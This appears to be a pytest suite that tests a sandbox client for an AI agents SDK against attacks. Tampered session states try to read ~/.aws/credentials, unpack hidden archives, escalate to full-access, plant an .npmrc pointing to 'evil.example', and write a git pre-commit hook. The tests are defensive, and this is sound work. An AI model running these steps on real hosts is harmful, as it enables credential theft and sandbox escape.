"""Attacks on `StockadeSandboxClient` that land: each test fails until its fix.

A stored session state is data (the SDK keeps it in a `RunState` a person
may store anywhere), the SDK's own snapshot flow runs against the person's
real project, and a background command's output is read by the host
process. Every effect is checked from the host.
"""

from __future__ import annotations

import asyncio
import contextlib
import io
import json
import os
import shutil
import subprocess
import tarfile
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("agents.sandbox")

from agents.sandbox import Manifest
from agents.sandbox.snapshot import LocalSnapshotSpec

from stockade.adapters.openai_sandbox import (
    StockadeSandboxClient,
    StockadeSandboxClientOptions,
)
from stockade.config import SandboxConfig
from stockade.errors import CapabilityDenied

pytestmark = pytest.mark.timeout(120)


@pytest.fixture
def base(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    # /var/tmp: the sandbox has its own /tmp.
    b = Path(tempfile.mkdtemp(prefix="stockade-sdk-attack-", dir="/var/tmp"))
    (b / "home" / ".aws").mkdir(parents=True)
    (b / "ws").mkdir()
    monkeypatch.setenv("HOME", str(b / "home"))
    monkeypatch.setenv("XDG_DATA_HOME", str(b / "data"))
    monkeypatch.setenv("XDG_STATE_HOME", str(b / "state"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(b / "config"))
    yield b
    shutil.rmtree(b, ignore_errors=True)


def _client(base: Path, backend: str = "bubblewrap", **kw: Any) -> StockadeSandboxClient:
    return StockadeSandboxClient(config=SandboxConfig(backend=backend, ledger=False), **kw)


def _git_repo(path: Path) -> None:
    env = dict(os.environ, GIT_AUTHOR_NAME="a", GIT_AUTHOR_EMAIL="a@b",
               GIT_COMMITTER_NAME="a", GIT_COMMITTER_EMAIL="a@b")
    (path / "README").write_text("hello\n")
    subprocess.run(["git", "init", "-q", str(path)], check=True, env=env)
    subprocess.run(["git", "-C", str(path), "add", "."], check=True, env=env)
    subprocess.run(["git", "-C", str(path), "commit", "-qm", "init"], check=True, env=env)


async def _stored_state(client: StockadeSandboxClient, root: Path) -> dict[str, Any]:
    session = await client.create(manifest=Manifest(root=str(root)),
                                  options=StockadeSandboxClientOptions())
    await session.start()
    payload = json.loads(json.dumps(client.serialize_session_state(session.state), default=str))
    await session.aclose()
    return payload  # type: ignore[no-any-return]


def test_a_stored_state_cannot_make_delete_remove_a_named_directory(base: Path) -> None:
    victim = base / "victim"
    victim.mkdir()
    (victim / "precious").write_text("the person's work\n")

    async def main() -> None:
        client = _client(base, options=StockadeSandboxClientOptions())
        payload = await _stored_state(client, base / "ws")
        payload["manifest"]["root"] = str(victim)
        payload["workspace_root_owned"] = True
        with contextlib.suppress(CapabilityDenied):  # refusing to resume is fine
            session = await client.resume(client.deserialize_session_state(payload))
            await client.delete(session)
        # A client that does resume into that directory (it was told to)
        # still does not own it because the state says so.
        named = _client(base, options=StockadeSandboxClientOptions(), root=victim)
        session = await named.resume(named.deserialize_session_state(payload))
        await named.delete(session)

    asyncio.run(main())
    assert (victim / "precious").exists()


def test_a_stored_state_cannot_copy_hidden_host_files_into_the_workspace(
        base: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home = base / "home"
    (home / ".aws" / "credentials").write_text("DECOY-AWS-SECRET\n")
    monkeypatch.chdir(home)

    async def main() -> str:
        client = _client(base, options=StockadeSandboxClientOptions())
        payload = await _stored_state(client, base / "ws")
        payload["manifest"]["entries"] = {"loot": {"type": "local_file",
                                                   "src": ".aws/credentials"}}
        try:  # refusing to resume (or to start) is fine; copying the file in is not
            session = await client.resume(client.deserialize_session_state(payload))
            await session.start()
        except Exception:
            return ""
        result = await session.exec("cat loot")
        await session.aclose()
        return result.stdout.decode()

    assert "DECOY-AWS-SECRET" not in asyncio.run(main())


def test_a_stored_state_cannot_restore_a_hidden_host_archive(base: Path) -> None:
    vault = base / "home" / ".aws"
    (vault / "secret.txt").write_text("DECOY-BACKUP\n")
    with tarfile.open(vault / "backup.tar", "w") as t:
        t.add(vault / "secret.txt", arcname="secret.txt")

    async def main() -> str:
        client = _client(base, options=StockadeSandboxClientOptions())
        payload = await _stored_state(client, base / "ws")
        payload["snapshot"] = {"type": "local", "id": "backup", "base_path": str(vault)}
        try:  # refusing to resume (or to start) is fine; unpacking the archive is not
            session = await client.resume(client.deserialize_session_state(payload))
            await session.start()
        except Exception:
            return ""
        result = await session.exec("cat secret.txt")
        await session.aclose()
        return result.stdout.decode()

    assert "DECOY-BACKUP" not in asyncio.run(main())


@pytest.mark.parametrize("backend", ["bubblewrap", "landlock"])
def test_resuming_from_a_snapshot_keeps_the_projects_repository_and_later_work(
        base: Path, backend: str) -> None:
    ws = base / "ws"
    _git_repo(ws)

    async def main() -> None:
        client = _client(base, backend)
        session = await client.create(manifest=Manifest(root=str(ws)),
                                      snapshot=LocalSnapshotSpec(base_path=base / "snaps"))
        await session.start()
        await session.stop()
        payload = client.serialize_session_state(session.state)
        await session.shutdown()
        (ws / "later.txt").write_text("the person's work after the run\n")
        resumed = await client.resume(client.deserialize_session_state(payload))
        try:
            await resumed.start()
        finally:
            await resumed.aclose()

    try:
        asyncio.run(main())
    except Exception:
        pass  # refusing to resume is fine; destroying the project is not
    status = subprocess.run(["git", "-C", str(ws), "log", "--oneline"], capture_output=True)
    assert status.returncode == 0, status.stderr
    assert (ws / "later.txt").exists()


def test_default_root_sessions_cannot_read_each_other(base: Path) -> None:
    async def main() -> str:
        client = _client(base)
        a = await client.create(manifest=Manifest())
        b = await client.create(manifest=Manifest())
        await a.start()
        await b.start()
        try:
            await a.exec("echo DECOY-SIBLING > secret.txt")
            result = await b.exec(f"cat {a.state.manifest.root}/secret.txt")
            return result.stdout.decode()
        finally:
            await client.delete(a)
            await client.delete(b)

    assert "DECOY-SIBLING" not in asyncio.run(main())


def test_a_background_commands_unread_output_is_bounded_on_the_host(base: Path) -> None:
    async def main() -> tuple[int, bytes]:
        client = _client(base)
        session = await client.create(manifest=Manifest(root=str(base / "ws")))
        await session.start()
        try:
            update = await session.pty_exec_start("yes", yield_time_s=0.2, max_output_tokens=10)
            assert update.process_id is not None
            await asyncio.sleep(3)
            inner: Any = session._inner
            entry = inner._background[update.process_id]
            async with entry.lock:
                return sum(len(c) for c in entry.chunks), entry.chunks[0]
        finally:
            await session.aclose()

    queued, output = asyncio.run(main())
    assert queued <= 2 * (1 << 20), f"{queued} bytes held by the host process"
    # What the model reads next says its output was cut: no silent gap.
    assert b"bytes of output were dropped unread" in output, output[:200]


def test_a_stored_state_cannot_widen_the_mode_of_a_client_without_options(base: Path) -> None:
    planted = base / "home" / "planted"

    async def main() -> None:
        client = _client(base)
        payload = await _stored_state(client, base / "ws")
        payload["options"]["mode"] = "full-access"
        try:  # refusing to resume is fine; running full-access unasked is not
            session = await client.resume(client.deserialize_session_state(payload))
            await session.start()
        except Exception:
            return
        await session.exec(f"echo x > {planted}")
        await session.aclose()

    asyncio.run(main())
    assert not planted.exists()


def test_a_stored_state_cannot_move_the_workspace_to_the_home(base: Path) -> None:
    home = base / "home"

    async def main() -> None:
        client = _client(base, options=StockadeSandboxClientOptions())
        payload = await _stored_state(client, base / "ws")
        payload["manifest"]["root"] = str(home)
        try:
            session = await client.resume(client.deserialize_session_state(payload))
            await session.start()
        except Exception:
            return
        # A registry of the attacker's for every later `npm install` on the host.
        await session.exec("echo registry=https://evil.example/ > .npmrc")
        with contextlib.suppress(Exception):
            await session.write(Path("planted.txt"), io.BytesIO(b"in the home\n"))
        await session.aclose()

    asyncio.run(main())
    assert not (home / ".npmrc").exists() and not (home / "planted.txt").exists()


def test_a_write_is_judged_by_its_own_effect_not_another_commands_restore(base: Path) -> None:
    """Under Landlock the guard restores .git when any command of the workspace ends."""
    ws = base / "ws"
    _git_repo(ws)

    async def main() -> str:
        a = await _client(base, "landlock").create(manifest=Manifest(root=str(ws)))
        b = await _client(base, "landlock").create(manifest=Manifest(root=str(ws)))
        await a.start()
        await b.start()
        try:
            started = await a.pty_exec_start(
                "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; touch a-wrote; "
                "sleep 5", yield_time_s=0.5)
            assert started.process_id is not None
            # Landlock lets the write land (the guard's watch undoes it at once):
            # wait for it, so B's write really does meet a restore.
            for _ in range(200):
                if (ws / "a-wrote").exists():
                    break
                await asyncio.sleep(0.05)
            assert (ws / "a-wrote").exists()
            try:
                await b.write(Path("f.txt"), io.BytesIO(b"b's work\n"))
            except Exception as exc:
                return f"{type(exc).__name__}: {exc}"
            return "written"
        finally:
            await a.aclose()
            await b.aclose()

    assert asyncio.run(main()) == "written"
    assert (ws / "f.txt").read_text() == "b's work\n"
    assert not (ws / ".git" / "hooks" / "pre-commit").exists()
